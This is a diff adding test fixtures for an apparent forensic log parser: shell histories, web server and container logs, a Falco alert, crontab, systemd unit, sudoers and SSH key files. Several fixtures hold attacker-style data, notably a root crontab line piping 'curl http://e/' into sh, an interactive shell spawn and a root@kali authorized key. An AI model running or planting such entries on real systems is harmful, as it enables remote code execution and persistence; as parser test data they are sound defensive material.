@@ -53,6 +53,44 @@ const accessLog = `192.0.2.1 - frank [10/Oct/2026:13:55:36 -0700] "GET /a.jsp?cm
 
 const bashHistory = "#1700000000\nid\n#1700000001\ncat <<E\nx\nE\nls\n"
 
+const zshHistory = ": 1700000000:0;id\n: 1700000001:2;cat <<E\\\nx\\\nE\nls\n\x83\xa0\n"
+
+const errorLog = `2026/10/10 13:55:36 [error] 7#7: *1 open() "/usr/share/nginx/html/a" failed (2: No such file or directory), client: 192.0.2.1, server: localhost, request: "GET /a HTTP/1.1", host: "h"
+[Sat Oct 10 13:55:37.123456 2026] [core:error] [pid 7:tid 8] [client 192.0.2.1:4] AH00126: Invalid URI in request GET /../ HTTP/1.1
+`
+
+const falcoLog = `{"hostname":"node-1","output":"09:24:40.000000001: Notice A shell was spawned","priority":"Notice","rule":"Terminal shell in container","source":"syscall","tags":["container"],"time":"2026-11-22T09:24:40.000000001Z","output_fields":{"container.id":"a8666bc29f51","evt.time":1795339480000000001,"proc.cmdline":"sh -i","proc.pid":4242,"user.loginuid":-1}}
+`
+
+const daemonLog = `time="2026-01-02T03:04:05.000000006Z" level=info msg="Exec for \"aaaabbbbccccddddeeeeffff0000111122223333444455556666777788889999\" with command [sh -c id], tty true"
+E1003 22:14:15.000001       1 kubelet.go:1] "SyncLoop ADD" source="api" pods=["default/web-0"]
+kernel: oom-kill:constraint=CONSTRAINT_MEMCG,task_memcg=/docker/aaaabbbbccccddddeeeeffff0000111122223333444455556666777788889999,task=java,pid=7,uid=0
+time="2026-01-02T03:04:05Z" level=info msg="CreateContainer within sandbox \"aaaabbbbccccddddeeeeffff0000111122223333444455556666777788889999\" for &ContainerMetadata{Name:web,Attempt:0,} returns container id \"bbbb\""
+`
+
+const packageLog = `2026-01-02 03:04:05 status installed nmap:amd64 7.93
+2026-01-02 03:04:05 install curl:amd64 <none> 7.88.1-10
+2026-01-02T03:04:05+0000 SUBDEBUG Installed: nmap-3:7.92-1.x86_64
+Jan 02 03:04:05 Installed: nmap-7.92-1.x86_64
+`
+
+const crontab = "SHELL=/bin/sh\nCRON_TZ=UTC\n# c\n*/5 1-3,7 * jan mon root  curl http://e/ | sh%x\\%y\n@reboot root /x\n"
+
+const atJob = "#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail u 0\numask 22\nHOME=/h; export HOME\ncd /h || {\n\t echo 'x' >&2\n\t exit 1\n}\nid\n"
+
+const unitFile = "[Unit]\nDescription=a \\\n b\n[Service]\nUser=u\nExecStart=-/bin/sh -c 'id; :'\nEnvironment=\"A=1 2\" B=3\nRestart=always\n[Install]\nWantedBy=multi-user.target\n[Timer]\nOnCalendar=*-*-* 4:00\nUnit=x.service\n"
+
+const sudoersFile = "Defaults env_reset\nUser_Alias A = a, %b\nroot ALL=(ALL:ALL) ALL\nA h=(u) NOPASSWD: /bin/x, \\\n !/bin/y\n@includedir /etc/sudoers.d\n"
+
+const authorizedKeys = `# keys
+ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ8dC1m1c3Vx0Y2b3Jk0a1x2b3d4e5f6g7h8i9j0k1l2 root@kali
+command="echo \"a b\"",no-pty ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQDx x
+`
+
+const knownHosts = `|1|F1E1KeoE/eEWhi10WpGv4OdiO6Y=|3988QV0VE8wmZL7suNrYQLITLCg= ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ8dC1m1c3Vx0Y2b3Jk0a1x2b3d4e5f6g7h8i9j0k1l2
+@revoked [h]:22,192.0.2.1 ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQDx
+`
+
 const aptHistory = `
 Start-Date: 2026-01-02  03:04:05
 Commandline: apt-get install nmap
